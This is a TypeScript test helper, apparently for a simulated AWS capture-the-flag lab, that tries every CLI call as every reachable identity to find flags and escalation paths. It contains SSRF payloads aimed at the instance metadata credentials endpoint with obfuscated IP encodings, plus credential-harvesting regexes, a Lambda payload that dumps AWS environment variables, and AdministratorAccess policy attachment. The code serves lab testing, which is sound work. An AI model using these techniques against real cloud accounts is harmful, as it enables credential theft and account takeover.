import type { World } from '@flagyard/cloud-simulator'
import {
  accessKeys,
  all,
  arnOf,
  awsOperations,
  fullName,
  instanceId,
  keyOf,
  knownOptions,
  parameterName,
  publicAddress,
} from '@flagyard/cloud-simulator/test/internals'
import type { Shell } from './simulated-lab.ts'

/** Results of searching an account, without duplicates. */
export interface Found {
  /** `user/lab-user → role/audit-reader by sts:AssumeRole`. */
  identities: Set<string>
  /** `flag_payroll: role/payroll-export by s3:GetObject`. */
  flags: Set<string>
  /** `role/x: lambda:UpdateFunctionCode`, for calls that change something in the account. */
  changes: Set<string>
}

interface Identity {
  name: string
  profile: string
}

const ADMIN = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'
const OPEN =
  '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"*","Resource":"*"}]}'

/** All values in this account that an option could refer to. */
function valuesOf(world: World, option: string): string[] {
  const names = (...types: string[]) => all(world, ...types).map(({ name }) => name)
  const full = (type: string) => all(world, type).map(fullName)
  const arns = (...types: string[]) => all(world, ...types).map((one) => arnOf(world, one))
  const policies = () => all(world, 'aws_iam_role_policy', 'aws_iam_user_policy', 'aws_iam_group_policy')
  const known: Record<string, () => string[]> = {
    'access-key-id': () => accessKeys(world).map(({ id }) => id),
    'account-id': () => [world.account_id],
    'action-names': () => ['s3:GetObject'],
    attribute: () => ['userData'],
    bucket: () => full('aws_s3_bucket'),
    'command-id': () => names('aws_ssm_command'),
    'document-name': () => ['AWS-RunShellScript'],
    'encoded-message': () => ['x'],
    'expression-attribute-values': () => ['1001', '1002', '1003'].map((id) => `{":id":{"S":"${id}"}}`),
    'function-name': () => full('aws_lambda_function'),
    'group-name': () => names('aws_iam_group'),
    'instance-id': () => all(world, 'aws_instance').map((one) => instanceId(world, one)),
    'instance-ids': () => all(world, 'aws_instance').map((one) => instanceId(world, one)),
    'instance-profile-name': () => names('aws_iam_instance_profile'),
    key: () => [...all(world, 'aws_s3_object').map(keyOf), '{"id":{"S":"1003"}}'],
    'key-condition-expression': () => ['id = :id'],
    'log-group-name': () => names('aws_cloudwatch_log_group'),
    name: () => [...all(world, 'aws_ssm_parameter').map(parameterName), ...names('aws_cloudtrail')],
    names: () => all(world, 'aws_ssm_parameter').map(parameterName),
    parameters: () => ['commands=aws sts get-session-token'],
    path: () => ['/'],
    policy: () => [OPEN],
    'policy-arn': () => [...arns('aws_iam_policy'), 'arn:aws:iam::aws:policy/AdministratorAccess'],
    'policy-document': () => [ADMIN, OPEN],
    'policy-name': () => policies().map((one) => one.attributes.policy_name ?? one.name),
    'policy-source-arn': () => arns('aws_iam_user', 'aws_iam_role'),
    'resource-type': () => ['AWS::IAM::User'],
    'role-arn': () => arns('aws_iam_role'),
    'role-name': () => names('aws_iam_role'),
    'role-session-name': () => ['search'],
    'secret-id': () => full('aws_secretsmanager_secret'),
    status: () => ['Active'],
    'table-name': () => full('aws_dynamodb_table'),
    'trail-name': () => names('aws_cloudtrail'),
    'user-name': () => names('aws_iam_user'),
    'version-id': () => ['v1', 'v2'],
    'zip-file': () => ['fileb://search.zip'],
  }
  const values = known[option]
  if (!values) throw new Error(`The search does not know what to write for --${option} of aws`)
  return values()
}

const quoted = (value: string) => `'${value.replaceAll("'", `'\\''`)}'`

/** All combinations of arguments: required options, and optional ones that affect access. */
function argumentsOf(world: World, options: string): string[] {
  let lines = ['']
  for (const { name, kind } of knownOptions(options)) {
    if (kind.startsWith('!'))
      lines = lines.flatMap((line) => valuesOf(world, name).map((value) => `${line} --${name} ${quoted(value)}`))
    if (name === 'with-decryption' || name === 'recursive') lines = lines.flatMap((line) => [line, `${line} --${name}`])
    if (name === 'user-name' && kind === '')
      lines = [
        ...lines,
        ...valuesOf(world, name).flatMap((value) => lines.map((line) => `${line} --${name} ${quoted(value)}`)),
      ]
    if (name === 'external-id')
      lines = [
        ...lines,
        ...wordsOfTrust(world).flatMap((word) => lines.map((line) => `${line} --${name} ${quoted(word)}`)),
      ]
    if (name === 'role' && kind === '')
      lines = [
        ...lines,
        ...valuesOf(world, 'role-arn').flatMap((value) => lines.map((line) => `${line} --${name} ${quoted(value)}`)),
      ]
  }
  return lines
}

/** Values that trust policies require, so a learner might try them. */
const wordsOfTrust = (world: World): string[] => [
  'x',
  ...new Set(
    all(world, 'aws_iam_role').flatMap(({ attributes }) =>
      [...(attributes.assume_role_policy ?? '').matchAll(/"sts:ExternalId":\s*"([^"]+)"/g)].flatMap(
        ([, word]) => word ?? [],
      ),
    ),
  ),
]

/** Positional arguments of the few calls that have them. */
function restsOf(world: World, name: string): string[] {
  const [service, operation] = name.split(' ')
  if (name === 'lambda invoke') return [' answer.json']
  if (service !== 's3') return ['']
  const buckets = all(world, 'aws_s3_bucket').map((one) => `s3://${fullName(one)}`)
  const objects = buckets.flatMap((bucket) => all(world, 'aws_s3_object').map((one) => `${bucket}/${keyOf(one)}`))
  if (operation === 'ls') return ['', ...buckets.map((one) => ` ${one}`)]
  if (operation === 'rm') return objects.map((one) => ` ${one}`)
  return [...objects.map((one) => ` ${one} -`), ...buckets.map((one) => ` search.sh ${one}/x`)]
}

/** Every simulated AWS call with all arguments that exist in this account. */
export const everyCall = (world: World): string[] =>
  Object.entries(awsOperations).flatMap(([name, { options }]) =>
    argumentsOf(world, options).flatMap((line) => restsOf(world, name).map((rest) => `aws ${name}${rest}${line}`)),
  )

/** Requests to addresses of the lab that make an application there fetch something. */
const requests = (world: World): string[] =>
  all(world, 'aws_instance').flatMap((instance) => {
    const address = publicAddress(world, instance)
    const metadata = [
      '169.254.169.254',
      '2852039166',
      '0xa9fea9fe',
      '[::ffff:169.254.169.254]',
      'metadata.google.internal',
    ]
    const paths = [
      'latest/user-data',
      'latest/meta-data/',
      `latest/meta-data/iam/security-credentials/${instance.attributes.iam_instance_profile}`,
    ]
    return address
      ? [
          `curl -s http://${address}/`,
          ...metadata.flatMap((host) =>
            paths.map((path) => `curl -s 'http://${address}/preview?url=http://${host}/${path}'`),
          ),
        ]
      : []
  })

/** Tries every call as every reachable identity, and continues with each new identity and each change. */
export async function searchAws(shell: Shell, planted: Record<string, string>): Promise<Found> {
  const found: Found = { identities: new Set(), flags: new Set(), changes: new Set() }
  await shell.run("echo 'env | grep AWS_' > bootstrap; zip search.zip bootstrap; cp bootstrap search.sh")
  const queue: Identity[] = []
  const reached = new Set<string>()
  const look = (text: string, who: string, how: string) => {
    for (const [variable, value] of Object.entries(planted))
      if (text.includes(value)) found.flags.add(`${variable}: ${who} by ${how}`)
  }
  /** Stores keys found in an answer as a profile and asks STS for their identity. */
  const meet = async (text: string, who: string, how: string) => {
    const keys = keysIn(text)
    if (!keys) return
    const profile = `search-${reached.size}`
    const write = Object.entries(keys).map(
      ([key, value]) => `aws configure set ${key} ${quoted(value)} --profile ${profile}`,
    )
    await shell.run(write.join('; '))
    const name = nameOf(
      (await shell.apart().run(`aws sts get-caller-identity --query Arn --output text --profile ${profile}`)).output,
    )
    if (!name || name === who) return
    found.identities.add(`${who} → ${name} by ${how}`)
    if (reached.has(name)) return
    reached.add(name)
    queue.push({ name, profile })
  }
  const first = nameOf((await shell.apart().run('aws sts get-caller-identity --query Arn --output text')).output)
  if (!first) throw new Error('The shell of the lab is not signed in')
  reached.add(first)
  queue.push({ name: first, profile: 'default' })
  for (const line of requests(shell.world)) {
    const { output } = await shell.apart().run(line)
    look(output, 'anybody', 'curl')
    await meet(output, 'anybody', 'curl')
  }
  const adopted = new Set<string>()
  for (let identity = queue.shift(); identity; identity = queue.shift()) {
    const { name, profile } = identity
    for (const line of everyCall(shell.world)) {
      const one = shell.apart()
      const answer = await one.run(`${line} --profile ${profile}`)
      const { exit, effects, log, output } = answer
      if (exit !== 0) continue
      const action = log.find(({ error }) => error === null)?.action ?? line
      const shown = output + (one.state.files['/home/learner/answer.json'] ?? '')
      look(shown, name, action)
      await meet(shown, name, action)
      if (effects.length === 0) continue
      found.changes.add(`${name}: ${action}`)
      const change = `${name} ${line}`
      if (adopted.has(change) || /:(Delete|Detach|Remove)/.test(action)) continue
      adopted.add(change)
      await shell.run(`${line} --profile ${profile}`)
      // A change can give access to identities that were already tried.
      queue.push(identity)
    }
  }
  return found
}

/** `role/audit-reader` from a session ARN, `user/lab-user` from a user ARN. */
function nameOf(arn: string): string | undefined {
  const [, kind, name] = /:(assumed-role|user)\/([^/\s]+)/.exec(arn) ?? []
  return kind && name && `${kind === 'user' ? 'user' : 'role'}/${name}`
}

/** Keys of a session or a user, anywhere in an answer. */
function keysIn(text: string): Record<string, string> | undefined {
  const plain = text.replaceAll('\\"', '"')
  const id = /(?:AccessKeyId"?:\s*"|AWS_ACCESS_KEY_ID=)(A[A-Z0-9]+)/.exec(plain)?.[1]
  const secret = /(?:SecretAccessKey"?:\s*"|AWS_SECRET_ACCESS_KEY=)([\w+/=-]+)/.exec(plain)?.[1]
  const token = /(?:(?:Session)?Token"?:\s*"|AWS_SESSION_TOKEN=)([\w+/=.-]+)/.exec(plain)?.[1]
  return id && secret
    ? { aws_access_key_id: id, aws_secret_access_key: secret, ...(token ? { aws_session_token: token } : {}) }
    : undefined
}
